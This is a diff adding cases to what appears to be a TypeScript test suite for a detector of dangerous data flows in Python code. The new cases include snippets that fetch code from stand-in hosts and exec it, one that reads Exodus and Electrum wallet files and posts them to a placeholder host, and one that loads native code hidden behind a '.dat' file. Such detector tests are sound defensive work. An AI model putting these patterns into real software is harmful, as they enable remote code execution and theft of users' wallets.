@@ -25,6 +25,13 @@ test.each<[string, Way, string]>([
   ['numbers of addresses', ['decoder', 'exec'], 'import ipaddress\nexec(b"".join(ipaddress.ip_address(a).packed for a in many))\n'],
   ['fields of a form', ['decoder', 'exec'], 'from urllib.parse import parse_qs\nexec(parse_qs("p=undefined")["p"][0])\n'],
   ['the body of a mail', ['decoder', 'exec'], 'import email\nexec(email.message_from_string(text).get_payload(decode=True))\n'],
+  ['a table at an address', ['network', 'exec'], 'import pandas as pd\nfor code in pd.read_csv("https://t.example.invalid/t.csv")["code"]: exec(code)\n'],
+  ['a file at an address', ['network', 'exec'], 'import fsspec\nwith fsspec.open("https://f.example.invalid/a.py") as f: exec(f.read())\n'],
+  ['news', ['network', 'exec'], 'import feedparser\nexec(feedparser.parse("https://n.example.invalid/rss").entries[0].summary)\n'],
+  ['what another process of another machine sends', ['network', 'exec'], 'from multiprocessing.connection import Client\nexec(Client(("c.example.invalid", 6000), authkey=k).recv())\n'],
+  ['what a client is told to write into', ['network', 'exec'], 'import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n'],
+  ['a path that is put together from a list', ['credentials', 'network'], 'import os, requests\nfor p in [os.path.join(os.environ.get(b, ""), *p.split("/")) for b, p in [("APPDATA", "Exodus/exodus.wallet"), ("APPDATA", "Electrum/wallets")]]:\n    requests.post("https://w.example.invalid", data=open(p, "rb").read())\n'],
+  ['machine code behind a name of data', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.dat"))\n'],
   ['rows of a database that comes along', ['shipped', 'exec'], 'import os, sqlite3\nfor (row,) in sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db")).execute("select x from t"): exec(row)\n'],
 ])('%s is followed', async (_, way, text) => {
   expect(await flows(text, way)).toContain('import');
@@ -34,6 +41,8 @@ test.each<[string, Way, string]>([
   ['a log that stays in a file', ['environment', 'network'], 'import logging.handlers, os\nlog = logging.getLogger()\nlog.addHandler(logging.handlers.RotatingFileHandler("garden.log"))\nlog.warning("%s", dict(os.environ))\n'],
   ['the page of a tool on this machine', ['host', 'network'], 'import socket, webbrowser\nwebbrowser.open("http://" + socket.gethostname() + ":8888/")\n'],
   ['documents that lie in the package', ['credentials', 'network'], 'import glob, requests\nfor path in glob.glob("docs/**/*.md"):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
+  ['a table that comes along', ['network', 'exec'], 'import pandas as pd\nfor code in pd.read_csv("t.csv")["code"]: exec(code)\n'],
+  ['machine code under its own name', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.so"))\n'],
   ['a number that identifies', ['decoder', 'exec'], 'import uuid\nname = uuid.UUID(u).hex\nexec("x = 1")\n'],
 ])('%s is left alone', async (_, way, text) => {
   expect(await flows(text, way)).toEqual([]);
